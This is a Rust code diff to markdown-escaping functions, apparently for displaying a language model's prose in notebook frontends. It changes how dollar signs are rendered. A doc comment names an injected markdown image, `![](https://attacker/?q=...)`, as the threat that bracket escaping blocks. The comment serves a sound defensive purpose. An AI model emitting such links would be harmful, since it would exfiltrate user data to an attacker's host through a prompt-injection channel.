@@ -29,7 +29,11 @@ pub fn fence_for(code: &str) -> String {
 pub fn markdown_text(s: &str) -> String {
     let mut out = String::with_capacity(s.len() + 8);
     for c in escape_html(s).chars() {
-        if "\\`*_{}[]()#+-.!|~$^=\"'".contains(c) {
+        if c == '$' {
+            out.push_str(DOLLAR);
+            continue;
+        }
+        if "\\`*_{}[]()#+-.!|~^=\"'".contains(c) {
             out.push('\\');
         }
         out.push(c);
@@ -53,16 +57,22 @@ pub fn code_markdown(code: &str, notes: Option<&[String]>) -> String {
     format!("{notes}{fence}python\n{code}\n{fence}")
 }
 
-/// Markdown for the model's prose (the interpretation): HTML escaped; `$` escaped so frontends
-/// that typeset TeX show "$252.80" as money; brackets escaped so an injected
+/// How a `$` is written in markdown so every frontend shows a dollar and none typesets math:
+/// no `$` character in the source (nbconvert's, VS Code's and GitHub's math passes read the
+/// source) and the one in the page inside MathJax's ignore class (JupyterLab and nbconvert's
+/// HTML typeset the page itself). A backslash escape showed as `\$` outside JupyterLab.
+pub const DOLLAR: &str = "<span class=\"tex2jax_ignore\">&#36;</span>";
+
+/// Markdown for the model's prose (the interpretation): HTML escaped; `$` written as
+/// [`DOLLAR`] so "$252.80" reads as money everywhere; brackets escaped so an injected
 /// `![](https://attacker/?q=...)` cannot become an image the browser fetches (or a link).
 pub fn model_markdown(text: &str) -> String {
     text.replace('&', "&amp;")
         .replace('<', "&lt;")
         .replace('>', "&gt;")
-        .replace('$', "\\\\$")
         .replace('[', "\\[")
         .replace(']', "\\]")
+        .replace('$', DOLLAR)
 }
 
 #[cfg(test)]
